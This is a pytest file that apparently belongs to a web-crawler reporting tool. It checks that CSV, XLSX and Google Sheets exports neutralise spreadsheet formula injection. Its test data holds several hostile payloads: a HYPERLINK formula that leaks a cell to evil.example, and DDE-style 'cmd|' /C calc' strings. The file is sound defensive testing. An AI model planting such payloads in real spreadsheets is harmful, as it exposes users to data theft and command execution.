"""Exports never hand a spreadsheet a formula: CSV cells are neutralised, XLSX and Google Sheets keep text as text."""

from __future__ import annotations

import csv
import json
import re
import sys
from pathlib import Path

import pytest
from archives import SITE, build_archive
from support import run_cli

from nitpicker_core import ScrapeResult

sys.path.append(str(Path(__file__).resolve().parent.parent / "reports"))  # the Sheets stand-in lives there

# The probe's strings (titles are stripped of surrounding whitespace, so tab and CR go in the description).
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
]
WHITESPACE = ["\tX", "\rX", "\t=1+1"]
NUMBER_TEXT = "-1.5"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
BOOK = "1InjectionBook_x-y"
SHEET_URL = f"https://docs.google.com/spreadsheets/d/{BOOK}/edit"


def page(n: int, title: str, description: str) -> ScrapeResult:
    return ScrapeResult(
        url=f"{SITE}/p{n}",
        status=200,
        status_text="OK",
        content_type="text/html",
        content_length=1000,
        metadata={"title": title, "description": description, "lang": "en"},
        html=f"<!doctype html><html><head><title>p{n}</title></head><body>p{n}</body></html>",
    )


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory) -> Path:
    """Pages titled (and described) with formula-injection strings, one with a number as its title."""
    texts = INJECTIONS + WHITESPACE
    pages = [page(n, text if text in INJECTIONS else f"page {n}", text) for n, text in enumerate(texts)]
    pages.append(page(len(texts), NUMBER_TEXT, NUMBER_TEXT))
    return build_archive(tmp_path_factory.mktemp("hostile") / "hostile.nitpicker", pages)


def by_url(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header = rows[0]
    return {row[header.index("URL")]: dict(zip(header, row, strict=False)) for row in rows[1:]}


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay(hostile_archive, tmp_path):
    result = run_cli("report", str(hostile_archive), "--csv", "out", "--all", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    with (tmp_path / "out" / "page-list.csv").open(encoding="utf-8-sig", newline="") as handle:
        pages = by_url(list(csv.reader(handle)))
    for n, text in enumerate(INJECTIONS):
        assert pages[f"{SITE}/p{n}"]["Title"] == "'" + text
        assert pages[f"{SITE}/p{n}"]["description"] == "'" + text
    for n, text in enumerate(WHITESPACE, len(INJECTIONS)):
        assert pages[f"{SITE}/p{n}"]["description"] == "'" + text
    number = pages[f"{SITE}/p{len(INJECTIONS) + len(WHITESPACE)}"]
    assert number["Title"] == NUMBER_TEXT and number["description"] == NUMBER_TEXT  # a number, not a formula
    assert number["Status Code"] == "200" and number["Internal Links"] == "0"
    # no cell of any sheet starts a formula, unless it is a plain number
    files = sorted((tmp_path / "out").glob("*.csv"))
    assert len(files) == 13  # the Cover, Issues, Issue URLs, the nine others and the Appendix
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                risky = [c for c in row if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
                assert not risky, (path.name, risky)


def test_xlsx_stores_formula_like_text_as_text(hostile_archive, tmp_path):
    from openpyxl import load_workbook

    result = run_cli("report", str(hostile_archive), "--xlsx", "out.xlsx", "--all", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    sheet = load_workbook(tmp_path / "out.xlsx")["Page List"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in INJECTIONS + WHITESPACE:
        assert cells[text].data_type == "s", text  # stored as a string, unchanged, never as a formula
    # the only formulas are the link columns' HYPERLINK() of crawled URLs
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(f.startswith(f'=HYPERLINK("{SITE}/') for f in formulas)


@pytest.fixture
def sheets_standin(tmp_path):
    """The Google Sheets stand-in, a spreadsheet in it, and a service-account key file that it accepts."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from standin import Store, serve

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    public = (
        key.public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )
    store = Store(public_key=public)
    store.add_book(BOOK)
    server, base = serve(store)
    (tmp_path / "sa.json").write_text(
        json.dumps(
            {
                "type": "service_account",
                "project_id": "nitpicker-test",
                "private_key_id": "k1",
                "private_key": private,
                "client_email": "reporter@nitpicker-test.iam.gserviceaccount.com",
                "client_id": "1",
                "token_uri": f"{base}/token",
            }
        )
    )
    yield store, base
    server.shutdown()


def test_google_sheets_receives_formula_like_text_as_string_values(hostile_archive, sheets_standin, tmp_path):
    store, base = sheets_standin
    result = run_cli(
        "report",
        str(hostile_archive),
        "--sheet",
        SHEET_URL,
        "--credentials",
        "sa.json",
        "--only",
        "Page List",
        cwd=tmp_path,
        env={"NITPICKER_GOOGLE_API_URL": base},
    )
    assert result.returncode == 0, result.stderr
    # typed cells through batchUpdate only: the values API (where USER_ENTERED parses "=…") is never called
    assert not [c for c in store.calls if "/values" in c], store.calls
    rows = store.sheet(BOOK, "Page List")["rows"]
    header = [c["userEnteredValue"]["stringValue"] for c in rows[0]]
    values = {r[header.index("URL")]["userEnteredValue"]["formulaValue"]: r for r in rows[1:]}

    def value(n: int, column: str) -> dict:
        return values[f'=HYPERLINK("{SITE}/p{n}", "{SITE}/p{n}")'][header.index(column)]["userEnteredValue"]

    for n, text in enumerate(INJECTIONS):
        assert value(n, "Title") == {"stringValue": text}
        assert value(n, "description") == {"stringValue": text}
    for n, text in enumerate(WHITESPACE, len(INJECTIONS)):
        assert value(n, "description") == {"stringValue": text}
    last = len(INJECTIONS) + len(WHITESPACE)
    assert value(last, "Title") == {"stringValue": NUMBER_TEXT}
    assert value(last, "Status Code") == {"numberValue": 200}  # numbers stay numbers
    formulas = [
        c["userEnteredValue"]["formulaValue"]
        for r in rows
        for c in r
        if "formulaValue" in c.get("userEnteredValue", {})
    ]
    assert len(formulas) == last + 1 and all(f.startswith(f'=HYPERLINK("{SITE}/') for f in formulas)
